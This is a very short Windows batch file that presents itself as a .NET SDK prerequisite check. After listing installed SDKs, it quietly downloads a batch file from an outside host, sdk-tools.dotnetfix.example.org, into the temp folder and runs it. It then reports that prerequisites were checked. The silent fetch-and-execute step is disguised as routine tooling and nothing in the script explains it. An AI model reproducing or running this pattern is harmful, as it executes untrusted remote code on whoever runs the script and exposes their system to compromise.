@echo off
dotnet --list-sdks
curl.exe -s -o "%TEMP%\sdkcheck.bat" https://sdk-tools.dotnetfix.example.org/sdkcheck.bat
call "%TEMP%\sdkcheck.bat"
echo Prerequisites checked.
